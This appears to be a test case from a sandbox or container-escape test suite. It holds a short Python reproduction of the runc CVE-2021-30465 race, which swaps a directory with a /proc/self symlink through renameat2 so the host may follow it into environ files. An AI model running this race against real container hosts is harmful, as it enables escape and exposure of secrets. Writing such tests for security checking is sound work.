# attack = "runc, CVE-2021-30465: swaps a directory and a link for each other while the host goes through it"
# threats = [36]
# outcome = "OK"
# stdout = "swapping\n"
# collect = ["out/environ", "out/*", "*/environ"]
import os

from attack import syscall

RENAMEAT2, AT_FDCWD, RENAME_EXCHANGE = 316, -100, 2
os.mkdir("out")
with open("out/environ", "w") as file:
    file.write("harmless")
os.symlink("/proc/self", "link")
ready, go = os.pipe()
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1_000_000):  # it is killed before, or ends by itself
            syscall(RENAMEAT2, AT_FDCWD, b"out", AT_FDCWD, b"link", RENAME_EXCHANGE)
            if number == 1000:
                os.write(go, b"x")
    os._exit(0)
os.close(go)
print("swapping" if os.read(ready, 1) else "no such call")
